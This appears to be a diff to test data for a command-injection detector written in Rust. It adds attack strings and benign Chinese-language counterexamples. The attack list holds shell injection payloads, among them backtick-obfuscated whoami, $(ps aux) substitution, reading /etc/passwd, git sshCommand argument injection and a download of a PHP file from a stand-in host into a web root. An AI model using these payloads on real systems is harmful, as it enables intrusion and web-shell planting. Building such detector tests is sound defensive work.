@@ -3,6 +3,12 @@ use super::super::tests::{check_table, confidence};
 use super::super::{Context, Detector, Place};
 
 const ATTACKS: &[&str] = &[
+    "x;w`u`h`u`o`u`a`u`m`u`i;",
+    "127.0.0.1$(ps aux)",
+    "||$(ps aux)||x",
+    "127.0.0.1|expr 69529 + 75582",
+    "x$(id>a)",
+    "-o /var/www/html/a.php http://evil.example/a.txt",
     "--config=core.sshCommand=touch /tmp/x",
     ";cat /etc/passwd",
     "127.0.0.1;id",
@@ -124,6 +130,11 @@ const ATTACKS: &[&str] = &[
 ];
 
 const HONEST: &[&str] = &[
+    "`a`和`b`的区别",
+    "-o /tmp/a",
+    "ps aux",
+    "用 expr 1 + 2 计算",
+    "-o 输出 http://www.example.org/",
     "升级步骤: cd /opt/his && ./stop.sh; cp his.jar his.jar.bak; ./start.sh; 观察 5 分钟",
     "ls -l | grep txt | wc -l 的含义",
     "ping 127.0.0.1 -n 4; ipconfig /all; netstat -an 分别的作用",
